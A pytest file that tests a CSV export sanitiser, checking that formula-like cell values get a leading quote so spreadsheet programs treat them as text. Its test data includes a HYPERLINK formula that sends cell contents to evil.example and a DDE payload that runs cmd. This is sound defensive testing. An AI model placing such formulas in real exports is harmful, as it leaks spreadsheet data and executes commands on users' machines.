"""Formulas in what is exported as CSV: a text stays a text in whatever program opens it."""

from __future__ import annotations

import csv
import io

import pytest

from app.attributions.spreadsheet import safe_cell

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_formula_is_a_text(text: str) -> None:
    made = safe_cell(text)
    assert isinstance(made, str) and made == "'" + text.replace("\x00", "")
    assert safe_cell(made) == made  # once is enough


@pytest.mark.parametrize("value", ["", "plain", " In Port Halvern.", "a=b", "3-4", "'=1", -4.61, 12, None, True, "é"])
def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
    assert safe_cell(value) is value or safe_cell(value) == value


def test_a_row_comes_back_as_it_was_written() -> None:
    """Separators and quotes cannot begin another cell, in which the next formula would stand."""
    row = ["a,=1+1", 'a","=1+1', "a;=1+1", "a\n=1+1", "=1", -0.5]
    sink = io.StringIO(newline="")
    csv.writer(sink).writerow([safe_cell(value) for value in row])
    (found,) = csv.reader(io.StringIO(sink.getvalue(), newline=""))
    assert found == ["a,=1+1", 'a","=1+1', "a;=1+1", "a\n=1+1", "'=1", "-0.5"]
